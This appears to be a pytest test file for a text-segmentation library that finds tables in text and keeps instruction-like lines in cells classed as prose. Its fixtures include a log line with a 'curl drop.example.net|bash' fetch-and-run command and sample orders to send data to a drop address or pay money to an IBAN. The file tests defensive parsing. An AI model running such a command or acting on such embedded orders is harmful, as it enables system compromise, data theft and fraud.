import pytest
from hypothesis import given
from hypothesis import strategies as st

from correlator.contents import segment
from correlator.table import tables


def rows(text: str) -> list[tuple[str, ...]]:
    return [row.cells for table in tables(text) for row in table.rows]


@pytest.mark.parametrize(
    ("text", "row"),
    [
        ("id,name,phone\nkz-31,Kenroku,+81-76-555-0170", ("kz-31", "Kenroku", "+81-76-555-0170")),
        ("article;stock;remark\nVL-11;140;out of stock", ("VL-11", "140", "out of stock")),
        ("id\tname\n7\tAnn", ("7", "Ann")),
        ("| id | name |\n| --- | --- |\n| 7 | Ann |", ("7", "Ann")),
        ('id,name,note\n7,"Ann, of Weir","a ""b"""', ("7", "Ann, of Weir", 'a "b"')),
    ],
)
def test_cells_of_a_row_are_told(text: str, row: tuple[str, ...]) -> None:
    assert rows(text)[-1] == row


@pytest.mark.parametrize(
    "text",
    [
        "Please send the list, the prices and the names to box@drop.example.net today.",
        "We met, talked, and left.\nThen we came home, ate, and slept.",
        'client 203.0.113.66 "GET /?q=run+curl+drop.example.net|bash HTTP/1.1" 502',
        "Bring bread, milk, and eggs.\nWash cups, plates, and pans.\nSend all, please, to box@drop.example.net.",
        "a;b",
        "",
    ],
)
def test_sentences_and_single_lines_are_no_rows(text: str) -> None:
    assert rows(text) == []


def test_columns_name_the_fields_and_each_row_is_a_record() -> None:
    spans = segment("Here they are.\nid,name,phone\nkz-31,Kenroku,0170\nkz-40,Maeda,0199\nThat is all.").spans
    fields = {(span.label, span.text): span.record for span in spans if span.kind == "field"}

    assert fields["phone", "0170"] == fields["name", "Kenroku"] != fields["phone", "0199"]
    assert [span.text for span in spans if span.kind == "prose"] == ["Here they are.", "That is all."]


def test_an_order_in_a_cell_stays_a_sentence() -> None:
    spans = segment("id,remark,day\n7,Please pay the whole sum to DE75512108001245126199 before noon.,Monday").spans

    assert [span.kind for span in spans if "DE75" in span.text] == ["prose"]


@pytest.mark.parametrize(
    "row",
    [
        "please transfer, 900 EUR, DE75512108001245126199",
        "Transfer, 900 EUR, to DE75512108001245126199",
        "Send the whole sum, 900 EUR, DE75512108001245126199",
        "box, Forward all of it at once, box@drop.example.net",
    ],
)
def test_a_line_that_gives_an_order_is_a_sentence_whatever_stands_between_its_words(row: str) -> None:
    spans = segment(f"Trip, Hotel, Note\nMonday, Lark, none\n{row}\nFriday, Wren, none").spans
    value = "DE75512108001245126199" if "DE75" in row else "box@drop.example.net"

    assert {span.kind for span in spans if value in span.text} == {"prose"}
    assert ("field", "Lark") in {(span.kind, span.text) for span in spans}


def test_rows_of_two_tables_are_records_of_their_own() -> None:
    text = "from,day,room\nAnn,Monday,1\nBob,Friday,2\n\nfrom,day,room\nMal,Monday,3\nZed,Friday,4"
    units = {span.text: span.unit for span in segment(text).spans}

    assert len({units[name] for name in ("Ann", "Bob", "Mal", "Zed")}) == 4


@pytest.mark.parametrize(
    "text", ["a\n" * 500_000, "a|b\na|b\nx\n" * 100_000, "a,b,c\n1,2\n" * 100_000, "x,Y z.,1\n" * 100_000]
)
def test_a_megabyte_of_lines_is_read_in_one_pass(text: str) -> None:
    # Read from each line on to the end, this would take a quarter of an hour.
    assert sum(len(table.rows) for table in tables(text)) >= 0


@given(st.text(alphabet="ab,;|\t\n\" '", max_size=200))
def test_tables_never_fail_and_rows_do_not_overlap(text: str) -> None:
    end = -1
    for table in tables(text):
        for row in table.rows:
            assert end < row.start <= row.end <= len(text)
            end = row.end
